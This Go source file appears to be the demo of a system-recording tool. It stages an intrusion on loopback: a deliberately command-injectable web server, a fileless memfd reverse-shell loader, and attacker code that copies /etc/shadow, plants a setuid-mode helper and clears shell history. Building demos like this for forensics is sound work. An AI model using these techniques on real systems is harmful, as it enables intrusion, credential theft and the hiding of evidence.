package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// The demo's incident is played by real processes on loopback: a web server
// with a command injection, and an attacker who uses it. Only the server and
// its descendants are recorded; the attacker is somebody else's machine.
//
// The acts are harmless: nothing outside the demo's directory is written.

// incidentVerb is the hidden verb that plays the web server.
const incidentVerb = "demo-httpd"

// runVictim is the vulnerable web server. It serves one visit to each of its
// two mistakes, /ping and /plugin, and ends.
func runVictim(e *env, args []string) error {
	if len(args) != 1 {
		return usageErrorf("%s is played by 'sysreel demo'", incidentVerb)
	}
	dir := args[0]
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	ctx, done := context.WithTimeout(e.ctx, 20*time.Second)
	defer done()
	srv := &http.Server{BaseContext: func(net.Listener) context.Context { return ctx }}
	mux := http.NewServeMux()
	// The mistake: a parameter goes into a shell command line.
	mux.HandleFunc("/ping", func(w http.ResponseWriter, r *http.Request) {
		cmd := exec.CommandContext(ctx, "/bin/sh", "-c", "echo checking "+r.FormValue("host"))
		cmd.Dir = dir
		out, _ := cmd.CombinedOutput() // whatever the attacker's command did is the answer
		w.Write(out)
	})
	// The second: code is fetched and run without touching the disk.
	mux.HandleFunc("/plugin", func(w http.ResponseWriter, r *http.Request) {
		if err := runFromMemory(ctx, dir, r.FormValue("from")); err != nil {
			http.Error(w, err.Error(), http.StatusBadGateway)
		}
		time.AfterFunc(50*time.Millisecond, done)
	})
	srv.Handler = mux
	go func() {
		<-ctx.Done()
		srv.Close()
	}()
	if err := writeWhole(filepath.Join(dir, "httpd.addr"), l.Addr().String()); err != nil {
		return err
	}
	if err := srv.Serve(l); !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	return nil
}

// writeWhole writes a file that appears with its content.
func writeWhole(path, content string) error {
	if err := os.WriteFile(path+".new", []byte(content), 0o600); err != nil {
		return err
	}
	return os.Rename(path+".new", path)
}

// runFromMemory fetches a program over TCP into a memfd and runs it with the
// connection as its standard input and output: a fileless reverse shell.
func runFromMemory(ctx context.Context, dir, addr string) error {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", addr)
	if err != nil {
		return err
	}
	defer conn.Close()
	fd, err := unix.MemfdCreate("plugin", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	prog := os.NewFile(uintptr(fd), "plugin")
	defer prog.Close()
	// Read without a buffer: what follows the program is the shell's input.
	var size int64
	if err := binary.Read(conn, binary.BigEndian, &size); err != nil {
		return err
	}
	if _, err := io.CopyN(prog, conn, size); err != nil {
		return err
	}
	sock, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	defer sock.Close()
	// The child finds the program as its descriptor 3.
	cmd := exec.CommandContext(ctx, "/proc/self/fd/3")
	cmd.Args = []string{"sh"}
	cmd.Dir = dir
	cmd.Stdin, cmd.Stdout, cmd.Stderr = sock, sock, sock
	cmd.ExtraFiles = []*os.File{prog}
	return cmd.Run()
}

// attack plays the attacker against the server whose directory is dir, from
// outside of what is recorded.
func attack(ctx context.Context, dir string) error {
	target, err := waitForFile(ctx, filepath.Join(dir, "httpd.addr"))
	if err != nil {
		return err
	}
	inject := "web01; cat /etc/shadow > loot.txt; cp /bin/true .helper; chmod 4755 .helper"
	if _, err := get(ctx, "http://"+target+"/ping?host="+url.QueryEscape(inject)); err != nil {
		return err
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	shell := make(chan error, 1)
	go func() { shell <- serveShell(l) }()
	if _, err := get(ctx, "http://"+target+"/plugin?from="+url.QueryEscape(l.Addr().String())); err != nil {
		return err
	}
	select {
	case err := <-shell:
		return err
	case <-ctx.Done():
		return ctx.Err()
	}
}

// serveShell sends the host's own /bin/sh to the first caller, types a few
// commands into it and reads until the shell has ended.
func serveShell(l net.Listener) error {
	conn, err := l.Accept()
	if err != nil {
		return err
	}
	defer conn.Close()
	prog, err := os.ReadFile("/bin/sh")
	if err != nil {
		return err
	}
	msg := binary.BigEndian.AppendUint64(nil, uint64(len(prog)))
	msg = append(msg, prog...)
	msg = append(msg, "id\nln -s /etc/shadow notes.txt\n: > .bash_history\nexit\n"...)
	if _, err := conn.Write(msg); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, conn)
	return err
}

func get(ctx context.Context, url string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return "", err
	}
	// A proxy of the environment must not see loopback traffic.
	client := &http.Client{Transport: &http.Transport{Proxy: nil, DisableKeepAlives: true}}
	resp, err := client.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err == nil && resp.StatusCode != http.StatusOK {
		err = fmt.Errorf("%s: %s: %s", url, resp.Status, strings.TrimSpace(string(body)))
	}
	return string(body), err
}

// waitForFile returns the content of a file once it exists.
func waitForFile(ctx context.Context, path string) (string, error) {
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	for {
		b, err := os.ReadFile(path)
		if err == nil {
			return string(b), nil
		}
		select {
		case <-tick.C:
		case <-ctx.Done():
			return "", fmt.Errorf("the demo's web server did not start: %w", err)
		}
	}
}
